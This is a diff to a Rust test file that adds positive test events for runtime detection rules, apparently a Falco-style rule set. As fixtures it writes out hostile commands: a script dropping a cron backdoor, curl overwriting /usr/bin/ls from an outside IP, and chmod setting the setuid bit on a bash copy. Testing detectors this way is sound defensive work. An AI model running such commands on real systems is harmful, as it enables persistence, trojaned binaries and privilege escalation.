@@ -341,6 +341,33 @@ pub fn positives() -> Vec<(&'static str, &'static str, SyscallEvent)> {
     ]
 }
 
+/// Events for the falcod rules that go beyond the upstream stable file: (falcod rule, what
+/// happens, the event).
+pub fn falcod_only_positives() -> Vec<(&'static str, &'static str, SyscallEvent)> {
+    vec![
+        (
+            "Write below etc by unexpected program",
+            "python drops a cron job",
+            Proc::new("python3 implant.py").write("/etc/cron.d/backdoor", of::CREAT),
+        ),
+        (
+            "Write below binary directory",
+            "curl replaces /usr/bin/ls",
+            Proc::new("curl -o /usr/bin/ls http://203.0.113.9/ls")
+                .write("/usr/bin/ls", of::TRUNC | of::CREAT),
+        ),
+        (
+            "Setuid or setgid bit set",
+            "chmod u+s on a copy of bash",
+            Proc::new("chmod u+s /tmp/.bash").chmod(
+                "/tmp/.bash",
+                0o4755,
+                "S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH",
+            ),
+        ),
+    ]
+}
+
 pub struct Neighbour {
     pub what: &'static str,
     pub event: SyscallEvent,
